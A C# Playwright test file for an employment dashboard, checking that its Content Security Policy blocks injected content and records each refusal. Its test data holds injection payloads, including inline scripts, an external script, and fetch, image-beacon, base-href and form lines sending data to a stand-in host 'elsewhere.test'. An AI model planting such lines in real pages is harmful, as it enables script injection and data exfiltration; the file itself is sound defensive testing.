using EmploymentDashboard.Accounts;
using Microsoft.Playwright;

namespace EmploymentDashboard.Tests.Browser;

/// <summary>Script that someone gets into a page stays dead, and the watch over that can fail.</summary>
[Collection(DashboardCollection.Name)]
public sealed class ContentPolicyTests(DashboardFixture dashboard)
{
    private const string Bulletin = "/bulletins/draft.html?period=2023-01&areas=500113";

    /// <summary>Ways to run a script of one's own, and what of the policy stands against each.</summary>
    [Theory]
    [InlineData("/explore", "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }))", "script-src")]
    [InlineData("/explore", "document.body.insertAdjacentHTML('beforeend', '<button id=trap onclick=\"window.ran = 1\">x</button>'); document.getElementById('trap').click()", "script-src")]
    [InlineData("/explore", "document.body.append(Object.assign(document.createElement('script'), { src: 'http://elsewhere.test/a.js' }))", "script-src")]
    [InlineData("/explore", "document.head.insertAdjacentHTML('beforeend', '<style>main { display: none }</style>')", "style-src")]
    [InlineData("/explore", "document.body.insertAdjacentHTML('beforeend', '<object data=\"/preview.png\"></object>')", "object-src")]
    [InlineData("/explore", "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"http://elsewhere.test/\"></iframe>')", "frame-src")]
    [InlineData("/explore", "fetch('http://elsewhere.test/?figures').catch(() => {})", "connect-src")]
    [InlineData("/explore", "document.body.insertAdjacentHTML('beforeend', '<img src=\"http://elsewhere.test/?figures\">')", "img-src")]
    [InlineData("/explore", "document.head.insertAdjacentHTML('afterbegin', '<base href=\"http://elsewhere.test/\">')", "base-uri")]
    [InlineData("/explore", "document.body.insertAdjacentHTML('beforeend', '<form id=trap action=\"http://elsewhere.test/\"></form>'); document.getElementById('trap').submit()", "form-action")]
    [InlineData(Bulletin, "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }))", "script-src")]
    [InlineData(Bulletin, "document.body.insertAdjacentHTML('beforeend', '<img src=\"http://elsewhere.test/?figures\">')", "img-src")]
    public async Task WhatIsSlippedIntoAPage_IsRefusedAndNoted(string address, string attack, string directive)
    {
        var page = await dashboard.OpenAsync(address);
        if (address == Bulletin)
            await page.Locator("html.is-paged").WaitForAsync();
        PolicyWatch.AssertNone(page);

        // As an own evaluation, which no policy binds, would not be of the page.
        await page.EvaluateAsync($"() => {{ {attack} }}");
        for (var wait = 0; wait < 50 && PolicyWatch.RefusedIn(page).Count == 0; wait++)
            await Task.Delay(20);

        Assert.Contains(PolicyWatch.RefusedIn(page), refusal => refusal.Contains(directive, StringComparison.Ordinal));
        Assert.False(await page.EvaluateAsync<bool>("() => 'ran' in window"));
        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => PolicyWatch.AssertNone(page));
        await page.Context.CloseAsync();
    }

    /// <summary>The preview lays its pages out in a frame, by a script of its own.</summary>
    [Fact]
    public async Task BulletinsPreview_LaysItsPagesOut()
    {
        var page = await dashboard.OpenLiveAsync("/bulletins?period=2023-01&areas=500113");
        await page.FrameLocator(".pages iframe").Locator("html.is-paged").WaitForAsync();
        // The button prints the frame, not the page around it.
        await page.FrameLocator(".pages iframe").Locator("html").EvaluateAsync("() => { window.print = () => document.documentElement.dataset.sent = ''; }");
        await page.Locator("[data-print]").First.ClickAsync();
        await page.FrameLocator(".pages iframe").Locator("html[data-sent]").WaitForAsync();
        PolicyWatch.AssertNone(page);
        await page.Context.CloseAsync();
    }

    /// <summary>Inside WeChat a picture opens as an image of the browser's own making.</summary>
    [Fact]
    public async Task Picture_InsideWeChat_IsShown()
    {
        var context = await dashboard.Browser.NewContextAsync(new() { UserAgent = "Mozilla/5.0 MicroMessenger/8.0" });
        PolicyWatch.Begin(context);
        var page = await context.NewPageAsync();
        await page.GotoAsync(dashboard.Address + "/explore?indicator=guaranteed_loan_amount");
        await page.Locator("main[data-live=true]").WaitForAsync();
        await page.ClickAsync(".take summary >> nth=0");
        await page.ClickAsync("[data-picture=png]");
        var image = page.Locator(".picture-dialog img");
        await image.WaitForAsync();
        await page.WaitForFunctionAsync("() => document.querySelector('.picture-dialog img').naturalWidth > 0");
        PolicyWatch.AssertNone(page);
        await context.CloseAsync();
    }

    [Fact]
    public async Task UploadPage_LoadsItsScriptAndSendsAFile()
    {
        var page = await dashboard.OpenLiveSignedInAsync(Role.Analyst, "/upload");
        await page.Locator("input[type=file]").First.SetInputFilesAsync(new FilePayload { Name = "policy.csv", MimeType = "text/csv", Buffer = "area,indicator,period,value\n"u8.ToArray() });
        await Assertions.Expect(page.Locator("main")).ToContainTextAsync("policy.csv");
        PolicyWatch.AssertNone(page);
        await page.Context.CloseAsync();
    }
}
